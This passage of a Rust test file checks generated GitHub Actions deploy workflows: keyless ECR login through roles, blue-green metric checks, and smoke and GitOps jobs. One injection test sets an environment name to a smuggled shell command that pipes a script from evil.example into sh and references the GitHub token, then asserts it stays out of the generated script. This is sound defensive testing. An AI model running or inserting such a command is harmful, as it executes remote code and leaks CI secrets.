    assert!(build["outputs"]["digest_api"].is_string());
}

#[test]
fn blue_green_deploys_judge_the_idle_colour_before_the_switch() {
    let mut design = crate::presets::find("rust-service")
        .map(|p| (p.build)())
        .unwrap();
    let deploy = workflow(&design, deploy::PATH);
    let steps = deploy["jobs"]["deploy-staging"]["steps"]
        .as_array()
        .unwrap();
    let names: Vec<&str> = steps.iter().filter_map(|s| s["name"].as_str()).collect();
    let helm = names.iter().position(|n| *n == "Deploy with Helm").unwrap();
    assert_eq!(
        names[helm + 1],
        "Judge the idle colour of rust-service by its metrics"
    );
    let script = steps[helm + 1]["run"].as_str().unwrap();
    assert!(script.contains("helm get values rust-service --namespace rust-service"));
    assert!(script.contains("version=\\\"$idle\\\""));
    assert!(
        expressions(script).is_empty(),
        "no expression in the script"
    );
    assert!(script.contains("kubectl exec \"$pod\" --namespace rust-service -- curl"));
    assert_eq!(deploy["jobs"]["deploy-staging"]["timeout-minutes"], 23);

    design.services[0].kubernetes.rollout.analysis = false;
    let text = crate::generate(&design)
        .file(deploy::PATH)
        .unwrap()
        .contents
        .clone();
    assert!(!text.contains("Judge the idle colour"));
    assert!(text.contains("timeout-minutes: 17"));
}

#[test]
fn an_ecr_registry_is_reached_with_roles_not_secrets() {
    let mut design = (crate::presets::find("web-api-worker").unwrap().build)();
    design.pipeline.registry = "123456789012.dkr.ecr.eu-west-1.amazonaws.com".to_owned();
    assert!(crate::facts::cloud::keyless_registry(&design));
    for (path, text) in workflows(&design) {
        assert!(!text.contains("REGISTRY_USERNAME"), "{path}");
        assert!(!text.contains("docker/login-action"), "{path}");
    }
    let ci = workflow(&design, ci::PATH);
    let build = &ci["jobs"]["build"];
    assert_eq!(build["permissions"]["id-token"], "write");
    assert!(build["permissions"].get("packages").is_none());
    let steps = build["steps"].as_array().unwrap();
    let assume = steps
        .iter()
        .position(|step| {
            step["uses"]
                .as_str()
                .is_some_and(|uses| uses.starts_with("aws-actions/configure-aws-credentials@"))
        })
        .expect("the build assumes the push role");
    assert_eq!(
        steps[assume]["with"]["role-to-assume"],
        "${{ vars.AWS_IMAGE_PUSH_ROLE_ARN }}"
    );
    assert_eq!(steps[assume]["with"]["aws-region"], "eu-west-1");
    assert!(steps[assume + 1]["uses"]
        .as_str()
        .unwrap()
        .starts_with("aws-actions/amazon-ecr-login@"));
    assert_eq!(steps[assume + 1]["with"]["registries"], "123456789012");
    let push = steps
        .iter()
        .position(|step| step["id"] == "push-web")
        .unwrap();
    assert!(assume < push);
    // A keyless deploy logs in with its own deploy role's credentials, after assuming it.
    let deploy = workflow(&design, deploy::PATH);
    let text = serde_json::to_string(&deploy).unwrap();
    assert!(text.contains("aws-actions/amazon-ecr-login@"));
    assert!(!text.contains("AWS_IMAGE_PUSH_ROLE_ARN"));

    // Without the design's Terraform nothing creates the push role: secrets, as before.
    design.infrastructure.enabled = false;
    let ci = serde_json::to_string(&workflow(&design, ci::PATH)).unwrap();
    assert!(ci.contains("secrets.REGISTRY_PASSWORD"));
    assert!(!ci.contains("amazon-ecr-login"));
    let readme = ci::how_to_apply(&design).unwrap();
    assert!(readme.contains("REGISTRY_USERNAME"), "{readme}");
}

/// The node-api design (deployed by CI with Helm) with a `smoke` job after each deploy, and
/// its environments delivered by GitOps when `gitops` is set.
fn with_smoke_jobs(gitops: bool) -> Design {
    let mut design = (crate::presets::find("node-api").unwrap().build)();
    for environment in &mut design.environments {
        if gitops {
            environment.delivery = crate::model::Delivery::Gitops;
        }
    }
    for (environment, deploy) in [
        ("staging", "deploy-staging"),
        ("production", "deploy-production"),
    ] {
        design.pipeline.jobs.push(Job {
            id: format!("smoke-{environment}"),
            name: format!("Smoke-test {environment}"),
            kind: JobKind::Smoke,
            needs: vec![deploy.to_owned()],
            environment: environment.to_owned(),
            ..Job::default()
        });
    }
    design
}

/// The `run` scripts of a deploy workflow job's steps.
fn step_scripts(deploy: &Value, job: &str) -> Vec<String> {
    deploy["jobs"][job]["steps"]
        .as_array()
        .unwrap_or_else(|| panic!("{job} has no steps"))
        .iter()
        .filter_map(|step| step["run"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn ci_smoke_tests_environments_it_deploys_to_with_curl() {
    let design = with_smoke_jobs(false);
    let deploy = workflow(&design, deploy::PATH);
    let smoke = step_scripts(&deploy, "smoke-staging");
    assert!(
        smoke.iter().any(|run| run.contains("curl --fail")),
        "{smoke:?}"
    );
    let steps = deploy["jobs"]["smoke-staging"]["steps"].as_array().unwrap();
    assert!(
        steps
            .iter()
            .any(|step| step["env"]["SMOKE_URL"]
                == "https://staging.app.example.com/health/readiness")
    );
    // The deploy job itself probes after helm upgrade --wait.
    let deploy_job = step_scripts(&deploy, "deploy-staging");
    assert!(deploy_job.iter().any(|run| run.contains("curl --fail")));
}

#[test]
fn ci_never_smoke_tests_a_gitops_environment_before_argo_cd_syncs_it() {
    let design = with_smoke_jobs(true);
    let deploy = workflow(&design, deploy::PATH);
    for environment in ["staging", "production"] {
        // The promotion ends with the commit (or the pull request): no request follows it.
        let promotion = step_scripts(&deploy, &format!("deploy-{environment}"));
        assert!(
            !promotion.iter().any(|run| run.contains("curl")),
            "{promotion:?}"
        );
        // The smoke job says where the test runs, in fixed text, and probes nothing.
        let job = format!("smoke-{environment}");
        let smoke = step_scripts(&deploy, &job);
        assert_eq!(smoke.len(), 1, "{smoke:?}");
        assert!(!smoke[0].contains("curl"), "{}", smoke[0]);
        assert!(smoke[0].contains("$GITHUB_STEP_SUMMARY"));
        assert!(smoke[0].contains("PostSync"));
        assert!(!smoke[0].contains(environment), "{}", smoke[0]);
        let step = &deploy["jobs"][job.as_str()]["steps"][0];
        assert_eq!(step["env"]["ENVIRONMENT"], environment);
    }
}

#[test]
fn a_gitops_smoke_job_with_its_own_commands_runs_them() {
    let mut design = with_smoke_jobs(true);
    let index = design.pipeline.jobs.len() - 1;
    design.pipeline.jobs[index].commands = vec!["./scripts/smoke.sh".to_owned()];
    let deploy = workflow(&design, deploy::PATH);
    let smoke = step_scripts(&deploy, "smoke-production");
    assert!(smoke.iter().any(|run| run.contains("./scripts/smoke.sh")));
    assert!(!smoke.iter().any(|run| run.contains("GITHUB_STEP_SUMMARY")));
}

#[test]
fn the_gitops_smoke_summary_keeps_hostile_environment_names_out_of_the_script() {
    let mut design = with_smoke_jobs(true);
    let hostile = "prod'; curl evil.example | sh; echo '${{ github.token }}";
    design.environments[1].name = hostile.to_owned();
    let last = design.pipeline.jobs.len() - 1;
    design.pipeline.jobs[last].environment = hostile.to_owned();
    for job in &mut design.pipeline.jobs {
        if job.id == "deploy-production" {
            job.environment = hostile.to_owned();
        }
    }
    let text = crate::generate(&design)
        .file(deploy::PATH)
        .unwrap()
        .contents
        .clone();
    let deploy = parse(&text);
    let smoke = step_scripts(&deploy, "smoke-production");
    assert_eq!(smoke.len(), 1, "{smoke:?}");
    assert!(!smoke[0].contains("evil"), "{}", smoke[0]);
}

/// The steps of a deploy-workflow job that assume its environment's image read role and log
/// in to Amazon ECR with it, in that order.
fn assumes_image_read_role(job: &serde_json::Value) -> bool {
    let steps = job["steps"].as_array().unwrap();
    let Some(assume) = steps.iter().position(|step| {
        step["uses"]
            .as_str()
            .is_some_and(|uses| uses.starts_with("aws-actions/configure-aws-credentials@"))
    }) else {
        return false;
    };
    steps[assume]["with"]["role-to-assume"] == "${{ vars.AWS_IMAGE_READ_ROLE_ARN }}"
        && steps[assume]["with"]["aws-region"] == "eu-west-1"
        && steps[assume + 1]["uses"]
            .as_str()
            .is_some_and(|uses| uses.starts_with("aws-actions/amazon-ecr-login@"))
        && job["permissions"]["id-token"] == "write"
}

#[test]
fn deploy_jobs_without_a_deploy_role_read_ecr_with_their_environments_image_read_role() {
    // Production delivered by Argo CD: its promotion holds no deploy role.
    let mut design = (crate::presets::find("web-api-worker").unwrap().build)();
    design.pipeline.registry = "123456789012.dkr.ecr.eu-west-1.amazonaws.com".to_owned();
    design.environments[1].delivery = crate::model::Delivery::Gitops;
    for (path, text) in workflows(&design) {
        assert!(!text.contains("REGISTRY_USERNAME"), "{path}");
        assert!(!text.contains("docker/login-action"), "{path}");
    }
    let deploy = workflow(&design, deploy::PATH);
    let promotion = &deploy["jobs"]["deploy-production"];
    assert!(assumes_image_read_role(promotion), "{promotion:#}");
    // Staging's deploy reads with its deploy role: no second role, no second token.
    let staging = &deploy["jobs"]["deploy-staging"];
    assert!(!serde_json::to_string(staging)
        .unwrap()
        .contains("AWS_IMAGE_READ_ROLE_ARN"));
    let ci = workflow(&design, ci::PATH);
    assert_eq!(ci["jobs"]["deploy"]["permissions"]["id-token"], "write");
    assert!(ci["jobs"]["deploy"].get("secrets").is_none());
    let readme = ci::how_to_apply(&design).unwrap();
    assert!(!readme.contains("REGISTRY_USERNAME"), "{readme}");
    let environments = deploy::how_to_apply(&design).unwrap();
    assert!(
        environments.contains("AWS_IMAGE_READ_ROLE_ARN"),
        "{environments}"
    );

    // Without EKS every deploy reaches its cluster with a KUBECONFIG secret: each reads the
    // registry with its environment's image read role.
    design.environments[1].delivery = crate::model::Delivery::Push;
    design.infrastructure.eks.enabled = false;
    let deploy = workflow(&design, deploy::PATH);
    for id in ["deploy-staging", "deploy-production"] {
        let job = &deploy["jobs"][id];
        assert!(assumes_image_read_role(job), "{id}");
        assert!(serde_json::to_string(job)
            .unwrap()
            .contains("secrets.KUBECONFIG"));
    }
    for (path, text) in workflows(&design) {
        assert!(!text.contains("REGISTRY_PASSWORD"), "{path}");
    }
    assert_eq!(
        workflow(&design, ci::PATH)["jobs"]["deploy"]["permissions"]["id-token"],
        "write"
    );

    // GHCR: GitHub's token reads the packages; no AWS role, no OIDC token for it.
    let mut design = (crate::presets::find("go-service").unwrap().build)();
    assert!(design.environments.iter().all(|env| env.gitops()));
    let deploy = workflow(&design, deploy::PATH);
    for (_, job) in deploy["jobs"].as_object().unwrap() {
        assert!(job["permissions"].get("id-token").is_none());
    }
    // Another registry without the design's Terraform keeps its secrets.
    design.pipeline.registry = "registry.example.com".to_owned();
    let text = serde_json::to_string(&workflow(&design, deploy::PATH)).unwrap();
    assert!(text.contains("secrets.REGISTRY_PASSWORD"));
    assert!(!text.contains("AWS_IMAGE_READ_ROLE_ARN"));
}
